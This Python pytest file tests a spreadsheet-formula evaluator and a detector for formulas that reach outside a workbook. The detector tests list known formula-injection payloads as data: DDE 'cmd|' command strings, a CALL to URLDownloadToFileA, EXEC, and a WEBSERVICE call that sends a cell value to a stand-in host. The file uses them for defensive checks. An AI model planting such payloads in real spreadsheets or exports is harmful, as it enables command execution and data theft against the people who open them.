"""Simple formulas: what they give, what is left alone, and that no text makes them do anything else."""

from __future__ import annotations

import operator
import time
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from danvan.intake.formulas import is_external, value

CELLS: dict[tuple[str, str], Decimal | None] = {
    ("", "D12"): Decimal(4),
    ("", "D13"): Decimal(5),
    ("", "D14"): None,
    ("", "D15"): Decimal("2.5"),
    ("", "E12"): Decimal(10),
    ("Công an", "D15"): Decimal(7),
    ("Công an", "D16"): Decimal(8),
    ("It's", "A1"): Decimal(1),
    ("Trang1", "AB10"): Decimal(3),
}


def lookup(sheet: str, ref: str) -> Decimal | None:
    """A cell of a small workbook; D16 holds a text, D17 a number that is none."""
    if ref == "D17":
        return Decimal("NaN")
    return CELLS[sheet, ref]


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        ("=100+55", "155"),
        ("=1.5+.5", "2"),
        ("=D12", "4"),
        ("=$D$12", "4"),
        ("=d12", "4"),
        ("=+D12", "4"),
        ("=--D12", "4"),
        ("=-D12-D13", "-9"),
        ("=D12-D13", "-1"),
        ("=D12-D13-D13", "-6"),
        ("=2+3*4", "14"),
        ("=(2+3)*4", "20"),
        ("=12/4/3", "1"),
        ("=6/-3", "-2"),
        ("=D14", "0"),
        ("=D12+D14", "4"),
        ("='Công an'!D15", "7"),
        ("='It''s'!A1*2", "2"),
        ("=Trang1!$AB$10", "3"),
        ("=SUM(D12:D15)+3", "14.5"),
        ("=sum(D12:D13)", "9"),
        ("= SUM( D12 : D13 , 1 )", "10"),
        ("=SUM(D15:D12)", "11.5"),
        ("=SUM(D12:E12)", "14"),
        ("=SUM($D$12:$D$13,D15,1)", "12.5"),
        ("=SUM('Công an'!D15:D16)", "15"),
        ("=SUM(D14)", "0"),
        ("=SUM(D14:D14)", "0"),
        ("=SUM(D12*2,(D13))", "13"),
        ("=AVERAGE(D12:D14)", "4.5"),
        ("=MIN(D12:D15)", "2.5"),
        ("=MAX(D12:D15,9)", "9"),
        ("=MIN(D14)", "0"),
        ("=ROUND(2.5,0)", "3"),
        ("=ROUND(-2.5,0)", "-3"),
        ("=ROUND(D15*1.11,1)", "2.8"),
        ("=ROUND(1250,-2)", "1300"),
        ("=ROUND(D14,D14)", "0"),
        ("=SUM(MAX(D12,D13),MIN(D12,D13))", "9"),
        ("=0.1+0.2", "0.3"),
    ],
)
def test_what_a_simple_formula_gives(formula: str, result: str) -> None:
    assert value(formula, lookup) == Decimal(result)


@pytest.mark.parametrize(
    "formula",
    [
        *("", "=", "D12", "100+55", "=1+", "=()", "=(1", "=1)", "=1 2", "=D12 D13", "=12D5", "=1,5", "=1+2,3"),
        *("=D12:D15", "=SUM()", "=SUM(D12,)", "=SUM(,D12)", "=SUM(D12;D13)", "=SUM(D12:D13:D15)", "=SUM(D:D)"),
        *(
            "=SUM(D12:)",
            "=SUM(:D12)",
            "=SUM 1",
            "=SUM(1",
            "=ROUND(1)",
            "=ROUND(1,2,3)",
            "=ROUND(1,0.5)",
            "=ROUND(1,99)",
        ),
        *("=ROUND(D12:D13,0)", "=AVERAGE(D14)", "=1/0", "=0/0", "=D12/D14", "=2^3", "=12%", "=1e3", "=1E3", "=TRUE"),
        *('="a"', '="1"+1', "=D12&D13", "=D12>D13", "=IF(1,2,3)", "=COUNT(D12)", "=LOG10(5)", "=PI()", "={1,2}"),
        *("=D16", "=D12+D16", "=SUM(D12:D16)", "=D17", "=MAX(D17,1)", "=Z99", "='Không có'!D12", "='Công an'!"),
        *("=D0", "=D1048577", "=XFE1", "=ABCD1", "=#REF!", "=#REF!D12", "=Name", "=[1]S!D12", "=Trang1!D12:Trang1!D13"),
        *("=SUM(A1:XFD1048576)", "=SUM(A1:A10001)", "=ROUND(1" + "0" * 100 + ",2)", "=½", "=١+١", "=\x00"),
        *("=__import__('os')", "=(lambda: 1)()", "=D12.real", "=0x10", "=1_000", "=D12\n;D13"),
    ],
)
def test_what_is_not_known_is_left_alone(formula: str) -> None:
    assert value(formula, lookup) is None


def test_limits() -> None:
    assert value("=" + "(" * 40 + "1" + ")" * 40, lookup) == 1
    assert value("=" + "(" * 60 + "1" + ")" * 60, lookup) is None
    assert value("=" + "-" * 900 + "1", lookup) == 1
    assert value("=" + "+".join("1" for _ in range(500)), lookup) == 500
    assert value("=" + "+".join("1" for _ in range(501)), lookup) is None  # 1,001 characters
    asked: list[str] = []

    def count(_: str, ref: str) -> Decimal | None:
        asked.append(ref)
        return Decimal(1)

    assert value("=SUM(A1:CV100)", count) == 10_000
    assert (asked[0], asked[1], asked[-1]) == ("A1", "B1", "CV100")
    asked.clear()
    assert value("=SUM(A1:CV101)", count) is None
    assert not asked
    assert value("=SUM(A1:A10000,A1:A10000)", count) is None
    assert len(asked) <= 10_001


@pytest.mark.parametrize(
    "formula",
    [
        *("=[1]Sheet1!A1", "=SUM([1]Sheet1!A1:A3)", "=[Book.xlsx]Sheet1!$A$1", "='[Năm trước.xlsx]Công an'!D15"),
        *(r"='C:\Tài liệu\[Book.xlsx]S'!A1", "='https://example.org/[Book.xlsx]S'!A1", "='file:///C:/x.xls'#$S.A1"),
        *(
            r"='\\may-chu\chung\[b.xlsx]S'!A1",
            '=HYPERLINK("http://example.org","xem")',
            "=hyperlink(A1)",
            "=IF(1,HYPERLINK (A1),2)",
        ),
        *(
            '=WEBSERVICE("http://example.org/"&A1)',
            "=_xlfn.WEBSERVICE(A1)",
            '=IMPORTXML("x","//a")',
            "=IMPORTRANGE(A1,B1)",
        ),
        *('=RTD("a",,"b")', "=cmd|'/c calc'!A1", "=cmd|' /C calc'!A0", "+cmd|'/c calc'!A1", "-2+3+cmd|' /C calc'!A0"),
        *("@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd|'/c calc'!A1", "＝cmd|'/c calc'!A1", "=MSEXCEL|'\\..\\cmd.exe'!''"),
        *(
            '=DDE("soffice";"x";"y")',
            '=CALL("urlmon","URLDownloadToFileA","JJC",0)',
            '=REGISTER("k","f")',
            "=REGISTER.ID(1)",
        ),
        *(
            '=INDIRECT("A"&1)',
            "=SUM(INDIRECT(A1))",
            '=EXEC("calc")',
            "=RUN(A1)",
            "=MyMacro(A1)",
            "=Book.xlsm!Macro1(1)",
        ),
        *("='PERSONAL.XLSB'!M()", "=[0]!Macro1", "=_xll.Addin(1)", "=IMAGE(A1)", "=GET.WORKSPACE(1)", '=A1&"http://x"'),
    ],
)
def test_formulas_that_reach_outside(formula: str) -> None:
    assert is_external(formula)
    assert value(formula, lookup) is None


@pytest.mark.parametrize(
    "formula",
    [
        *("=SUM(D12:D15)+3", "='Công an'!D15", "=Trang1!A1", "=IF(A1>3,B1,C1)", "=NORM.DIST(1,2,3,TRUE)", "=#REF!"),
        *(
            "=_xlfn.XLOOKUP(A1,B1:B3,C1:C3)",
            "=_xlfn._xlws.FILTER(A1:A3,B1:B3)",
            "=Table1[Số tin]+Sheet1!A1",
            "=sum(a1)",
        ),
        *(
            '="HYPERLINK("&A1',
            '=IF(A1="|",1,2)',
            "='A|B'!D1",
            "=A1/B1",
            "=RUNNING",
            "",
            "cmd|'/c calc'!A1",
            "HYPERLINK(A1)",
        ),
        *("+84 912 345 678", "- trong đó: tin về ma túy", "@", "-5", "không", "Xem http://example.org"),
    ],
)
def test_formulas_and_texts_that_stay_inside(formula: str) -> None:
    assert not is_external(formula)


PARTS = "SUM( ROUND( MAX( AVERAGE( ( ) , : D12 D13 D14 D16 $D$15 Trang1! + - * / 1 0 2.5 HYPERLINK( |"
FORMULAS = st.one_of(
    st.text(max_size=40),
    st.text("0123456789.+-*/(),: $!'\"[]|ADSUMXRONDEIV\n", max_size=60),
    st.lists(st.sampled_from([*PARTS.split(" "), " ", "'Công an'!", "9" * 60]), max_size=25).map("".join),
).map("={}".format)


@settings(max_examples=1500, deadline=None)
@given(formula=FORMULAS)
@example("=" + "(" * 999)
@example("=" + "'" * 999)
@example("=SUM(" * 199)
@example("=9" + "9" * 900 + "*9")
def test_no_formula_raises(formula: str) -> None:
    result = value(formula, lookup)
    assert result is None or result.is_finite()
    is_external(formula)
    is_external(formula[1:])


OPERATORS = {"+": operator.add, "-": operator.sub, "*": operator.mul}
SUMS = st.recursive(
    st.integers(0, 99).map(lambda number: (str(number), number)),
    lambda inner: st.builds(
        lambda left, sign, right: (f"({left[0]}{sign}{right[0]})", OPERATORS[sign](left[1], right[1])),
        *(inner, st.sampled_from("+-*"), inner),
    ),
)


@settings(max_examples=500, deadline=None)
@given(SUMS)
def test_arithmetic_is_that_of_whole_numbers(written: tuple[str, int]) -> None:
    text, wanted = written
    if len(text) < 999 and abs(wanted) < 10**40:
        assert value(f"={text}", lookup) == wanted


@pytest.mark.parametrize(
    "unit", ["'", '"', "[", "]", "|", "IMPORT", "RUN ", "=(", "a!", "'[", "]a", "_xlfn.", "Aa", "\\"]
)
def test_long_texts_take_no_time(unit: str) -> None:
    start = time.perf_counter()
    is_external("=" + unit * 100_000)
    value("=" + unit * 100_000, lookup)
    assert time.perf_counter() - start < 2
